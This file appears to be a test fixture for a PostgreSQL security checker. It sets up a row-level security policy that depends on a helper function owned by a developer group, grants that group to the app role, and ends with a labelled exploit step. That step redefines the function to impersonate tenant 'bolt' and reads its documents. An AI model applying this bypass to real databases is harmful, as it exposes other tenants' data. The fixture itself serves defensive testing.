-- The helper belongs to a group of the app role.
-- object: helpers.tenant()
-- object: public.documents
-- object: role:{app}
-- base: text
--- setup
RESET ROLE;
CREATE ROLE {devs} NOLOGIN;
CREATE ROLE {dev} LOGIN;
SET ROLE {owner};
CREATE SCHEMA helpers;
GRANT USAGE ON SCHEMA helpers TO PUBLIC;
GRANT CREATE ON SCHEMA helpers TO {devs};
DROP POLICY own ON documents;
CREATE FUNCTION helpers.tenant() RETURNS text LANGUAGE sql STABLE
    AS $$ SELECT NULLIF(current_setting('app.tenant', true), '') $$;
CREATE POLICY own ON documents USING (account_id = (SELECT helpers.tenant()));
RESET ROLE;
ALTER FUNCTION helpers.tenant() OWNER TO {devs};
--- leak
RESET ROLE;
GRANT {devs} TO {app};
--- twin
RESET ROLE;
GRANT {devs} TO {dev};
--- exploit
CREATE OR REPLACE FUNCTION helpers.tenant() RETURNS text LANGUAGE sql STABLE AS $$ SELECT 'bolt' $$;
SELECT id FROM documents WHERE account_id = 'bolt';
